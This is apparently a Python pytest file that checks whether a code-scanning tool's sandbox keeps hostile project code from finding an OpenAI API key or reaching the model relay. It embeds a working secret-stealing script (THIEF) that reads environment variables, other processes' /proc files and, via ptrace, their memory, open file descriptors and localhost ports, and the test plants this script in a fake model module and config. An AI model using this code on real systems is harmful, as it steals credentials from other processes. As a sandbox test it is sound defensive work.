"""Hostile code looks for the key of a model: in the project's tests, and in a measured module."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.integration.conftest import QUICK
from tests.replay_server import replay_server
from tests.unit.github.test_trees import git

ROOT = Path(__file__).parents[2]
KEY = "sk-of-the-relay-4711"

THIEF = r"""
import ctypes, glob, os, re, socket
FORM = rb"sk-of[a-z0-9-]{8,}|[0-9a-f]{32}@127"
def look(data):
    return {one.decode() for one in re.findall(FORM, data)}
def environments():
    yield repr(dict(os.environ)).encode()
    for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try: yield open(file, "rb").read()
        except OSError: pass
def memories():
    libc = ctypes.CDLL(None)
    pids = {int(one) for one in os.listdir("/proc") if one.isdigit()} | {os.getppid()}
    for pid in [] if len(pids) > 30 else pids - {os.getpid()}:  # unconfined it would take minutes
        if libc.ptrace(16, pid, 0, 0) == 0:
            os.waitpid(pid, 0)
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line and high - low < 2**26:
                        try: memory.seek(low); yield memory.read(high - low)
                        except (OSError, ValueError, OverflowError): pass
        except OSError: pass
        libc.ptrace(17, pid, 0, 0)
def descriptors():
    for fd in range(3, 64):
        try: yield os.readlink(f"/proc/self/fd/{fd}").encode()
        except OSError: pass
        try: os.set_blocking(fd, False); yield os.pread(fd, 4096, 0)
        except OSError: pass
def ports():
    found = []
    near = int(os.environ.get("NEAR", 0))
    for port in range(near - 2, near + 3) if near else range(32768, 61000):
        try: one = socket.create_connection(("127.0.0.1", port), 0.2)
        except OSError: continue
        if one.getsockname() == one.getpeername(): continue  # itself
        one.settimeout(1); found.append(port)
        try:
            one.sendall(b"GET /v1/models HTTP/1.0\r\n\r\n"); one.recv(100)
        except OSError: pass
        one.close()
    return found
def steal():
    loot = set()
    for ways in (environments, memories, descriptors):
        try:
            for data in ways(): loot |= look(data)
        except Exception: pass
    try: reached = bool(ports())
    except Exception: reached = False
    return f"THIEF loot={sorted(loot)} reached={reached} END"
"""

MODEL = """
import torch
from torch import nn

class Pooling(nn.Module):
    def __init__(self, dim: int = 64):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(dim))

    def forward(self, x):
        return torch.stack([x[i] * self.weight[i] for i in range(x.shape[0])])
"""
CONFIG = """\
[tool.cudal1-ci]
device = "cpu"
trace = "{python} stolen.py"
[tool.cudal1-ci.optimizer]
num-rounds = 1
num-samples = 1
num-repairs = 1
[tool.cudal1-ci.playbook]
skip = ["loops"]
[[tool.cudal1-ci.workload]]
target = "pkg/slow.py:Pooling"
inputs = ["float32[64, 16]"]
[[tool.cudal1-ci.workload]]
target = "pkg/hostile.py:Thief"
inputs = ["float32[8]"]
"""
HOSTILE = f"""
import torch
from torch import nn
{THIEF}

class Thief(nn.Module):
    def forward(self, x):
        raise RuntimeError(steal())
"""


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    for name, text in {
        "pkg/__init__.py": "",
        "pkg/slow.py": MODEL,
        "pkg/hostile.py": HOSTILE,
        "stolen.py": THIEF + "\nprint(steal(), flush=True)\nraise SystemExit(3)\n",
        "pyproject.toml": CONFIG.format(python=sys.executable),
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "base")
    return root


def loot(text: str) -> list[str]:
    """What thieves have reported; the rest is the program's own text."""
    return re.findall(r"THIEF (loot=\[.*?\] reached=\w+) END", text)


EMPTY = "loot=[] reached=False"


@pytest.mark.starts_verifier
def test_no_code_that_a_scan_runs_finds_the_key_or_reaches_the_relay(project):
    environment = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    environment |= {**QUICK, "OPENAI_API_KEY": KEY, "PYTHONPATH": str(ROOT)}
    with replay_server() as server:
        words = ["scan", str(project), "--model", server.url, "--json", "-"]
        done = subprocess.run(
            [sys.executable, "-m", "cudal1_ci", *words],
            env=environment,
            capture_output=True,
            text=True,
        )
        requests = server.requests
    said = done.stdout + done.stderr
    assert done.returncode == 2, said  # the module cannot be called as it is declared
    # The server was asked with the key: so there was one to find.
    assert {one["headers"]["authorization"] for one in requests} == {f"Bearer {KEY}"}
    tests = loot(done.stderr)
    module = loot(json.dumps(json.loads(done.stdout)["entries"]))
    assert tests
    assert module
    assert {*tests, *module} == {EMPTY}
    assert KEY not in said


def test_the_thief_finds_what_can_be_found(tmp_path):
    """Where nothing confines it and its parent holds a key."""
    file = tmp_path / "stolen.py"
    file.write_text(THIEF + "\nprint(steal(), flush=True)\n")
    with replay_server() as server:
        done = subprocess.run(
            ["/bin/sh", "-c", f"{sys.executable} {file}; true"],
            env={"OPENAI_API_KEY": KEY, "NEAR": server.url[17:-3], "PATH": os.environ["PATH"]},
            capture_output=True,
            text=True,
        )
    (found,) = loot(done.stdout)
    assert KEY in found
    assert "reached=True" in found
